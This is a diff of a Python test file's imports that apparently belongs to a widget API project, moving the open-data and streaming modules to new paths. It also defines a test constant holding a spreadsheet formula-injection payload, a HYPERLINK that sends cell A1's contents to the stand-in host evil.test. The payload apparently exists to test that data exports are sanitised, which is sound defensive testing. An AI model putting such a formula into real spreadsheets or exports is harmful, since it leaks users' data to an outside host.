@@ -18,15 +18,15 @@ from hypothesis import strategies as st
 
 from tests.factories import AGENT, EMAIL, PUBLIC_URL, make_site, submit_report
 from widget_api import errors
+from widget_api.browse.open_data import model, service
 from widget_api.context import Context
 from widget_api.demo import samples
-from widget_api.http import streaming
 from widget_api.open311 import render
 from widget_api.problems import change as problems
 from widget_api.problems.model import Change, Contact
-from widget_api.problems.opendata import model, service
 from widget_api.sites import changes
 from widget_api.sites.model import Site
+from widget_api.web import streaming
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"a")'
 
